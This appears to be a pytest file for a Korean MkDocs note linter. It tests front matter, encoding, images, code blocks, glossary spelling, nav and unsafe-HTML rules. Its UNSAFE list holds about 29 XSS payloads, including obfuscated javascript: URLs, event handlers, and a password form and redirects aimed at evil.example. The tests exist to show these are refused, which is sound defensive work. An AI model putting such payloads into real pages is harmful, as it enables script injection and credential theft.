"""노트 검사(hooks/note_checks.py): 규칙마다 새 기여자가 실제로 만들 법한 나쁜 노트와 좋은 노트.

대부분은 검사 함수를 작은 글에 바로 돌려 빠르게 확인한다. 끝의 몇 개만 저장소 사본을 strict 로
빌드해, 빌드가 경로와 줄 번호와 고칠 방법을 대며 멈추는지 본다.
"""

from __future__ import annotations

import re
import textwrap
from pathlib import Path

import pytest
import yaml
from mkdocs.utils.meta import get_data

from hooks import note_checks
from hooks.note_checks import Note, Problem, check_note, check_rendered_html
from tests.conftest import ROOT, run_mkdocs_build
from tests.note_examples import INFO as RUNNER_INFO

DOCS = ROOT / "docs"
FRONT = "---\ntitle: 예시 노트\ndescription: 검사를 보여 주는 예시.\ntags:\n  - 딥러닝\n---\n\n"
BODY_START = FRONT.count("\n") + 1  # FRONT 뒤 첫 줄의 번호
LINE = re.compile(r"^docs/[\w/.-]+:\d+: .+ \([\w-]+\) — .+$")


@pytest.fixture(scope="module")
def rules():
    return note_checks.load_rules()


def check(rules, text: str | bytes, src: str = "dl/example.md", docs: Path = DOCS) -> list[Problem]:
    data = text if isinstance(text, bytes) else text.encode("utf-8")
    return check_note(src, data, docs, rules)


def note(body: str) -> str:
    return FRONT + textwrap.dedent(body).lstrip("\n")


def only(problems: list[Problem], keyword: str) -> list[Problem]:
    return [p for p in problems if p.keyword == keyword]


# ---------------------------------------------------------------------------
# 좋은 노트는 절대 막히지 않는다
# ---------------------------------------------------------------------------

GOOD_NOTE = note(
    """
    # 예시 노트

    배치 정규화(batch normalization)의 초깃값을 본다. `초기값`처럼 코드 안에 쓴 표기는 괜찮다.
    수식 \\( a < b \\)와 [다른 노트](../python/asterisk.md), [바깥 자료](https://arxiv.org/abs/1502.03167).

    <div markdown>
    <figure markdown="span">
    <abbr title="배치 정규화">BN</abbr> 단축키 <kbd>Ctrl</kbd>+<kbd>C</kbd>
    </figure>
    </div>

    <!-- glossary-table -->
    <!-- material/tags -->

    ![층마다 활성화 값의 분포](../figures/weight_init/histogram-light.svg#only-light)
    ![층마다 활성화 값의 분포](../figures/weight_init/histogram-dark.svg#only-dark)

    ```python
    --8<-- "asterisk/unpacking.py:product"
    ```

    ```python title="예시.py"
    >>> product(2, 3)
    6
    ```

    !!! example "상자 안의 코드"

        ```python
        >>> 1 + 1
        2
        ```

    <!-- skip: next "GPU 가 있어야 돈다" -->
    ```python
    model.cuda()
    ```

    ```text
    >>> 설명만 하는 블록
    ```

    ```html
    <script>alert("코드 블록 안의 HTML 은 글자일 뿐이다")</script>
    ```
    """
)


def test_a_good_note_passes_every_check(rules):
    assert check(rules, GOOD_NOTE) == []


def test_every_current_note_passes_the_checks(rules):
    notes = sorted(
        p.relative_to(DOCS).as_posix() for p in DOCS.rglob("*") if p.suffix in (".md", ".ipynb")
    )
    problems = note_checks.check_notes(DOCS, notes, rules)
    problems += note_checks.check_nav(notes, note_checks.load_nav(), set(notes))
    assert problems == [], "\n".join(map(str, problems))


def test_every_problem_reads_path_line_what_keyword_and_fix(rules):
    text = note("<script>alert(1)</script>\n")
    [problem] = check(rules, text)
    assert str(problem) == (
        f"docs/dl/example.md:{BODY_START}: 노트에 쓸 수 없는 HTML 태그입니다: <script> (unsafe-html) — "
        + note_checks.TAG_ADVICE["script"]
    )
    assert LINE.match(str(problem))


# ---------------------------------------------------------------------------
# front matter
# ---------------------------------------------------------------------------


def test_mkdocs_alone_would_silently_drop_front_matter_with_bad_yaml():
    # 그래서 이 검사가 필요하다: MkDocs 는 메타데이터를 비우고 front matter 를 본문으로 보여 줄 뿐이다.
    text = "---\ntitle: 배치 정규화: 왜 필요한가\ntags: [딥러닝]\n---\n\n본문\n"
    body, meta = get_data(text)
    assert meta == {} and body.startswith("---")


@pytest.mark.parametrize(
    ("front_matter", "line", "fix"),
    [
        # 값 안의 콜론
        ("title: 배치 정규화: 왜 필요한가\ndescription: 설명\ntags: [딥러닝]", 2, "따옴표"),
        # 탭으로 들여쓴 목록
        ("title: 제목\ndescription: 설명\ntags:\n\t- 딥러닝", 5, "탭"),
        # 닫히지 않은 대괄호
        ("title: 제목\ndescription: 설명\ntags: [딥러닝, 정규화", 4, "닫혔는지"),
    ],
)
def test_front_matter_that_is_not_valid_yaml_is_refused_with_its_line(
    rules, front_matter, line, fix
):
    [problem] = check(rules, f"---\n{front_matter}\n---\n\n# 제목\n")
    assert problem.keyword == "front-matter" and problem.line == line
    assert "YAML" in problem.what and fix in problem.fix


def test_a_note_without_front_matter_is_refused(rules):
    [problem] = check(rules, "# 제목\n\n본문\n")
    assert (problem.line, problem.keyword) == (1, "front-matter")
    assert "tools/templates/note.md" in problem.fix


def test_an_unclosed_front_matter_is_refused(rules):
    [problem] = check(rules, "---\ntitle: 제목\ndescription: 설명\n\n# 제목\n")
    assert "닫히지 않았" in problem.what


def test_missing_description_and_tags_are_both_reported(rules):
    problems = check(rules, "---\ntitle: 제목\n---\n\n본문\n")
    assert sorted(p.what for p in problems) == [
        "front matter 에 필수 키가 없습니다: 'description'",
        "front matter 에 필수 키가 없습니다: 'tags'",
    ]


def test_title_may_come_from_the_first_heading_but_not_from_nowhere(rules):
    with_h1 = "---\ndescription: 설명\ntags:\n  - 딥러닝\n---\n\n# 본문의 제목\n"
    assert check(rules, with_h1) == []
    without = "---\ndescription: 설명\ntags:\n  - 딥러닝\n---\n\n본문만 있다.\n"
    [problem] = check(rules, without)
    assert "제목이 없습니다" in problem.what


def test_a_tag_outside_the_vocabulary_is_refused_on_its_own_line(rules):
    text = "---\ntitle: 제목\ndescription: 설명\ntags:\n  - 딥러닝\n  - 머신러닝\n---\n"
    [problem] = check(rules, text)
    assert (problem.line, problem.keyword) == (6, "tags")
    assert "data/tags.yml" in problem.fix and "딥러닝" in problem.fix


def test_tags_must_be_a_list(rules):
    [problem] = check(rules, "---\ntitle: 제목\ndescription: 설명\ntags: 딥러닝\n---\n")
    assert problem.line == 4 and "목록" in problem.what


def test_a_misspelt_key_is_refused_with_a_suggestion(rules):
    text = "---\ntitle: 제목\ndescription: 설명\ntag:\n  - 딥러닝\n---\n"
    problems = check(rules, text)
    unknown = [p for p in problems if "모르는 키" in p.what]
    assert unknown[0].line == 4 and "'tags'" in unknown[0].fix


def test_sources_are_a_list_of_title_and_url(rules):
    good = FRONT.replace(
        "---\n\n", "sources:\n  - title: 논문\n    url: https://arxiv.org/abs/1\n---\n\n"
    )
    assert check(rules, good + "# 제목\n") == []
    bad = FRONT.replace(
        "---\n\n", "sources:\n  - title: 논문\n    link: https://x\n  - 그냥 글\n---\n\n"
    )
    problems = check(rules, bad + "# 제목\n")
    assert [p.line for p in problems] == [7, 9]


# ---------------------------------------------------------------------------
# encoding
# ---------------------------------------------------------------------------


def test_mkdocs_alone_gives_no_reason_for_a_cp949_file(tmp_path):
    from mkdocs.structure.files import File

    (tmp_path / "x.md").write_bytes("# 제목\n".encode("cp949"))
    with pytest.raises(UnicodeDecodeError):
        File("x.md", str(tmp_path), str(tmp_path / "site"), False).content_string  # noqa: B018


def test_a_note_saved_as_cp949_is_refused_with_how_to_convert_it(rules):
    text = note("# 예시 노트\n\n한국어 Windows 메모장으로 저장했다.\n").encode("cp949")
    [problem] = check(rules, text)
    assert problem.keyword == "encoding" and problem.line == 2  # 한글이 처음 나오는 줄
    assert "CP949" in problem.what
    assert "Save with Encoding" in problem.fix and "iconv -f cp949 -t utf-8" in problem.fix


def test_a_byte_order_mark_is_refused(rules):
    [problem] = check(rules, b"\xef\xbb\xbf" + GOOD_NOTE.encode("utf-8"))
    assert (problem.line, problem.keyword) == (1, "encoding") and "BOM" in problem.what


def test_windows_line_endings_are_fine(rules):
    assert check(rules, GOOD_NOTE.replace("\n", "\r\n")) == []


# ---------------------------------------------------------------------------
# unsafe content
# ---------------------------------------------------------------------------

UNSAFE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x.png" alt="그림" onerror="alert(1)">',
    '<a href="#" onclick="alert(1)">눌러 보기</a>',
    "[눌러 보기](javascript:alert(1))",
    "[눌러 보기](<javascript:alert(1)>)",
    "[눌러 보기](JaVaScRiPt:alert(1))",
    "[눌러 보기](jav&#97;script:alert(1))",
    "[눌러 보기](data:text/html,<script>alert(1)</script>)",
    "[눌러 보기][x]\n\n[x]: vbscript:msgbox(1)",
    '<a href="jav&#x09;ascript:alert(1)">탭을 끼운 주소</a>',
    '<iframe src="https://www.youtube.com/embed/x"></iframe>',
    '<embed src="x.swf">',
    '<object data="x.pdf"></object>',
    '<form action="https://evil.example"><input name="pw"></form>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<style>body { background: url(javascript:alert(1)) }</style>",
    '<div style="width: expression(alert(1))">옛 IE</div>',
    '<div style="width: \\65 xpression(alert(1))">CSS 이스케이프로 숨긴 것</div>',
    '<p style="background:url(&quot;javascript:alert(1)&quot;)">x</p>',
    '## 제목 { onclick="alert(1)" }',
    "문단\n{: onmouseover=alert(1) }",
    "<!-- 주석 --!><script>alert(1)</script> -->",
    '<details open ontoggle="alert(1)"><summary>열기</summary></details>',
    "<math><mi>x</mi></math>",
]


@pytest.mark.parametrize("snippet", UNSAFE)
def test_html_that_can_run_script_is_refused(rules, snippet):
    problems = only(check(rules, note(f"첫 줄\n\n{snippet}\n")), "unsafe-html")
    assert problems, snippet
    first = BODY_START + 2
    assert all(first <= p.line <= first + snippet.count("\n") for p in problems)
    assert all(p.path == "docs/dl/example.md" for p in problems)


SAFE = [
    "<div markdown>\n\n**굵게**\n\n</div>",
    '<figure markdown="span">\n  ![그림](a.svg)\n  <figcaption>설명</figcaption>\n</figure>',
    '<abbr title="배치 정규화">BN</abbr>과 <kbd>Ctrl</kbd>',
    "<details><summary>더 보기</summary>\n\n내용\n\n</details>",
    '<svg viewBox="0 0 10 10" role="img"><title>점</title><circle cx="5" cy="5" r="2"/></svg>',
    '<span style="color: #3f51b5">색 글자</span>',
    "<!-- glossary-table -->\n<!-- material/tags -->",
    '<!-- skip: next "GPU 가 있어야 한다" -->\n```python\nmodel.cuda()\n```',
    "`<script>`를 쓰면 안 되는 까닭",
    "```html\n<iframe src=x></iframe>\n```",
    "부등식 \\( a<b \\)와 \\( c>d \\)",
    "<https://peps.python.org/pep-3102/>",
    "[PEP 448](https://peps.python.org/pep-0448/)",
]


@pytest.mark.parametrize("snippet", SAFE)
def test_safe_html_and_our_markers_pass(rules, snippet):
    assert check(rules, note(f"# 제목\n\n{snippet}\n")) == []


def test_markdown_generated_attributes_are_caught_after_rendering_too():
    source = note('# 제목\n\n문단\n{: onclick="alert(1)" }\n')
    rendered = '<h1 id="x">제목</h1>\n<p onclick="alert(1)">문단</p>'
    [problem] = check_rendered_html("dl/example.md", rendered, source)
    assert problem.line == BODY_START + 3 and "onclick" in problem.what


def test_build_output_such_as_tabs_is_not_mistaken_for_unsafe_html():
    rendered = (
        '<div class="tabbed-set" data-tabs="1:2"><input checked="checked" id="__tabbed_1_1" '
        'name="__tabbed_1" type="radio" /><label for="__tabbed_1_1">가</label></div>'
        '<a class="headerlink" href="#제목" title="이 제목의 링크">¶</a>'
    )
    assert check_rendered_html("dl/example.md", rendered, "") == []


# ---------------------------------------------------------------------------
# images
# ---------------------------------------------------------------------------


def test_an_image_without_alt_text_is_refused(rules):
    problems = check(
        rules, note('# 제목\n\n![](../figures/x/a-light.svg#only-light)\n\n<img src="a.png">\n')
    )
    assert [(p.line, p.keyword) for p in problems] == [
        (BODY_START + 2, "image-alt"),
        (BODY_START + 4, "image-alt"),
    ]


def test_an_image_from_another_site_is_refused(rules):
    [problem] = check(rules, note("# 제목\n\n![로고](https://example.com/logo.png)\n"))
    assert problem.keyword == "remote-image" and "docs/" in problem.fix


def test_an_image_file_over_one_megabyte_is_refused(rules, tmp_path):
    (tmp_path / "dl").mkdir()
    (tmp_path / "dl" / "big.png").write_bytes(b"\x89PNG" + bytes(1_200_000))
    (tmp_path / "dl" / "small.png").write_bytes(b"\x89PNG" + bytes(1000))
    text = note("# 제목\n\n![작은 그림](small.png)\n\n![큰 그림](big.png)\n")
    [problem] = check(rules, text, docs=tmp_path)
    assert (problem.line, problem.keyword) == (BODY_START + 4, "image-size")
    assert "docs/dl/big.png" in problem.what and "1.1 MB" in problem.what
    # 노트가 싣지 않은 큰 그림 파일도 docs/ 에 두지 않는다.
    [loose] = note_checks.check_media_sizes(tmp_path, ["dl/big.png", "dl/small.png"], [])
    assert loose.path == "docs/dl/big.png"


# ---------------------------------------------------------------------------
# code blocks
# ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "info", ["py", "python3", "pycon", "Python", "{.python}", "python{title=x}"]
)
def test_a_python_block_the_tests_would_not_run_is_refused(rules, info):
    [problem] = check(rules, note(f"# 제목\n\n```{info}\n>>> 1 + 1\n2\n```\n"))
    assert (problem.line, problem.keyword) == (BODY_START + 2, "code-block")
    assert "```python" in problem.fix


def test_a_doctest_in_a_block_without_language_is_refused(rules):
    [problem] = check(rules, note("# 제목\n\n```\n>>> 1 + 1\n2\n```\n"))
    assert "```python" in problem.fix


@pytest.mark.parametrize(
    "marker",
    [
        "<!-- skip: next -->",
        '<!-- skip: next "" -->',
        "<!-- skip: next 이유 -->",
        '<!-- skip: start "이유" -->',
    ],
)
def test_a_skipped_block_needs_a_quoted_reason(rules, marker):
    [problem] = check(rules, note(f"# 제목\n\n{marker}\n```python\nmodel.cuda()\n```\n"))
    assert (problem.line, problem.keyword) == (BODY_START + 2, "code-block")
    assert "이유" in problem.fix


def test_a_skip_marker_must_sit_right_before_a_python_block(rules):
    text = note('# 제목\n\n<!-- skip: next "느리다" -->\n\n설명 한 줄.\n\n```python\nx = 1\n```\n')
    [problem] = check(rules, text)
    assert problem.line == BODY_START + 2 and "바로 다음" in problem.what


@pytest.mark.parametrize(
    ("info", "runs"),
    [
        ("python", True),
        ('python title="a.py"', True),
        ('python linenums="1"', True),
        ("python3", False),
        ("py", False),
        ("pycon", False),
        ("text", False),
        ("pythonic", False),
    ],
)
def test_runnable_blocks_are_exactly_those_the_note_example_runner_collects(info, runs):
    assert bool(note_checks.RUNNABLE_INFO.match(info)) is runs
    assert bool(RUNNER_INFO.match(info + "\n")) is runs


# ---------------------------------------------------------------------------
# glossary
# ---------------------------------------------------------------------------


def test_a_discouraged_spelling_is_flagged_with_the_preferred_one(rules):
    problems = check(
        rules, note("# 제목\n\n가중치의 초기값을 정한다.\n\n그레디언트 소실이 생긴다.\n")
    )
    assert [(p.line, p.keyword) for p in problems] == [
        (BODY_START + 2, "glossary"),
        (BODY_START + 4, "glossary"),
    ]
    assert "'초깃값'" in problems[0].fix
    assert (
        "'그레디언트 소실'" in problems[1].what and "'기울기 소실'" in problems[1].fix
    )  # 긴 표기 하나만


def test_discouraged_spellings_in_code_and_on_the_glossary_page_are_fine(rules):
    text = note("# 제목\n\n`초기값` 이라고 쓰지 않는다.\n\n```python\n초기값 = 0  # 코드\n```\n")
    assert only(check(rules, text), "glossary") == []
    assert check(rules, note("# 용어집\n\n초기값 대신 초깃값\n"), src="glossary.md") == []


# ---------------------------------------------------------------------------
# snippets, links, anchors
# ---------------------------------------------------------------------------


def test_a_missing_snippet_section_or_file_is_reported_with_its_line(rules):
    text = note(
        '# 제목\n\n```python\n--8<-- "asterisk/unpacking.py:no_such_section"\n```\n\n'
        '```python\n--8<-- "asterisk/gone.py"\n```\n'
    )
    problems = only(check(rules, text), "snippet")
    assert [p.line for p in problems] == [BODY_START + 3, BODY_START + 7]
    assert "[start:no_such_section]" in problems[0].fix
    assert "snippets/asterisk/gone.py" in problems[1].what


def test_links_anchors_and_snippets_are_checked_by_the_strict_build():
    # 끊긴 링크와 앵커는 MkDocs 의 validation 이 경고하고 --strict 가 실패로 만든다.
    # 빌드로 확인하는 테스트는 tests/test_site_build.py 에 있다(끊긴 링크, 없는 앵커, 없는 스니펫).
    config = yaml.load(
        (ROOT / "mkdocs.yml").read_text(encoding="utf-8"), note_checks.MkDocsYamlLoader
    )
    validation = config["validation"]
    for key in ("omitted_files", "absolute_links", "unrecognized_links", "anchors"):
        assert validation[key] == "warn", key
    snippets = next(
        e for e in config["markdown_extensions"] if isinstance(e, dict) and "pymdownx.snippets" in e
    )
    assert snippets["pymdownx.snippets"]["check_paths"] is True
    # 렌더링 검사는 수식과 Mermaid 훅이 HTML 을 바꾸기 전에 돈다.
    hooks = config["hooks"]
    assert hooks.index("hooks/note_checks.py") < hooks.index("hooks/mermaid_svg.py")


# ---------------------------------------------------------------------------
# nav
# ---------------------------------------------------------------------------


def test_a_page_missing_from_the_nav_is_an_error_that_says_where_to_add_it():
    nav = [{"홈": "index.md"}, {"딥러닝": [{"배치 정규화": "dl/batch-norm.md"}]}]
    notes = ["index.md", "dl/batch-norm.md", "dl/layer-norm.md"]
    [problem] = note_checks.check_nav(notes, nav, set(notes))
    assert (problem.path, problem.line, problem.keyword) == ("docs/dl/layer-norm.md", 1, "nav")
    assert (
        "mkdocs.yml" in problem.fix
        and "'딥러닝:' 아래" in problem.fix
        and "dl/layer-norm.md" in problem.fix
    )


def test_a_nav_entry_for_a_missing_file_is_an_error():
    nav = [{"딥러닝": [{"배치 정규화": "dl/batch-norm.md"}, {"바깥": "https://pytorch.org"}]}]
    [problem] = note_checks.check_nav([], nav, set())
    assert problem.path == "mkdocs.yml" and "docs/dl/batch-norm.md" in problem.what


# ---------------------------------------------------------------------------
# 빌드: 경로, 줄, 고칠 방법을 대며 멈추고, 문제를 한꺼번에 보여 준다
# ---------------------------------------------------------------------------


@pytest.mark.build
def test_the_build_reports_every_broken_note_at_once(project_copy):
    docs = project_copy / "docs"
    (docs / "dl" / "windows.md").write_bytes(
        note("# 윈도우\n\n메모장으로 저장한 노트\n").encode("cp949")
    )
    (docs / "dl" / "colon.md").write_text(
        "---\ntitle: 배치 정규화: 왜 필요한가\ndescription: 설명\ntags: [딥러닝]\n---\n\n본문\n",
        encoding="utf-8",
    )
    (docs / "dl" / "video.md").write_text(
        note('# 영상\n\n<iframe src="https://www.youtube.com/embed/x"></iframe>\n'),
        encoding="utf-8",
    )
    config = project_copy / "mkdocs.yml"
    extra = r"\1\2- 윈도우: dl/windows.md\n\2- 콜론: dl/colon.md\n\2- 영상: dl/video.md\n"
    text = re.sub(
        r"(\n( +)- [^\n]+: dl/batch-norm\.md\n)", extra, config.read_text(encoding="utf-8")
    )
    config.write_text(text, encoding="utf-8")
    (docs / "dl" / "orphan.md").write_text(note("# 고아\n\n메뉴에 없다.\n"), encoding="utf-8")

    result = run_mkdocs_build(project_copy, project_copy / "site")
    output = result.stdout + result.stderr
    assert result.returncode != 0
    assert "노트 검사에서 문제 4개를 찾았습니다" in output
    assert "docs/dl/windows.md:2: 파일이 UTF-8이 아니라 CP949" in output
    assert "docs/dl/colon.md:2: front matter 의 YAML 을 읽을 수 없습니다" in output
    assert (
        f"docs/dl/video.md:{BODY_START + 2}: 노트에 쓸 수 없는 HTML 태그입니다: <iframe>" in output
    )
    assert (
        "docs/dl/orphan.md:1: 어느 메뉴(nav)에서도 닿지 않는 페이지입니다 (nav) — mkdocs.yml 의 nav:"
        in output
    )


def test_problems_found_after_rendering_stop_the_build_once_all_pages_are_done(tmp_path):
    from types import SimpleNamespace

    from mkdocs.exceptions import PluginError

    source = tmp_path / "x.md"
    source.write_text(note("# 제목\n\n문단\n"), encoding="utf-8")
    page = SimpleNamespace(file=SimpleNamespace(src_uri="dl/x.md", abs_src_path=str(source)))
    note_checks._rendered_problems.clear()
    html = '<p onclick="alert(1)">문단</p>'
    assert note_checks.on_page_content(html, page, None, None) == html
    with pytest.raises(
        PluginError, match=r"docs/dl/x.md:\d+: 스크립트를 실행하는 이벤트 처리 속성입니다: onclick="
    ):
        note_checks.on_env(None, None, None)
    note_checks._rendered_problems.clear()


@pytest.mark.build
def test_the_build_refuses_an_event_handler_added_with_attr_list(project_copy):
    note_path = project_copy / "docs" / "python" / "asterisk.md"
    text = note_path.read_text(encoding="utf-8")
    lines = text.count("\n")
    note_path.write_text(text + '\n클릭하면 실행된다\n{: onclick="alert(1)" }\n', encoding="utf-8")
    result = run_mkdocs_build(project_copy, project_copy / "site")
    output = result.stdout + result.stderr
    assert result.returncode != 0
    assert (
        f"docs/python/asterisk.md:{lines + 3}: 스크립트를 실행하는 이벤트 처리 속성입니다: onclick="
        in output
    )


def test_the_command_line_check_uses_the_same_rules(capsys):
    from tools import check_notes

    assert check_notes.main(["docs/python/asterisk.md"]) == 0
    assert "문제가 없습니다" in capsys.readouterr().out


def test_the_command_line_check_fails_with_the_same_messages(tmp_path, monkeypatch, capsys):
    from tools import check_notes

    (tmp_path / "docs" / "dl").mkdir(parents=True)
    (tmp_path / "docs" / "dl" / "bad.md").write_text(
        note("# 제목\n\n<iframe src=x></iframe>\n"), encoding="utf-8"
    )
    monkeypatch.setattr(check_notes, "ROOT", tmp_path)
    monkeypatch.setattr(check_notes, "DOCS", tmp_path / "docs")
    assert check_notes.main(["docs/dl/bad.md"]) == 1
    err = capsys.readouterr().err
    assert f"docs/dl/bad.md:{BODY_START + 2}: 노트에 쓸 수 없는 HTML 태그입니다: <iframe>" in err
    assert "docs/dl/bad.md:1: 어느 메뉴(nav)에서도 닿지 않는 페이지입니다" in err


def test_notes_are_checked_by_the_cli_when_mkdocs_yml_changes():
    from tools.check_notes import all_notes, pick

    assert pick(["mkdocs.yml"], all_notes())[0] == all_notes()
    assert pick(["docs/python/asterisk.md", "README.md"], all_notes())[0] == all_notes()
    assert pick(["docs/python/asterisk.md"], all_notes()) == (["python/asterisk.md"], [])


def test_a_note_object_keeps_line_numbers_when_code_is_blanked():
    text = FRONT + "```python\n<script>\n```\n`<b>` <i>기울임</i>\n"
    n = Note("dl/x.md", text)
    assert n.body.count("\n") == text.count("\n")
    assert "<script>" not in n.body and "<i>" in n.body
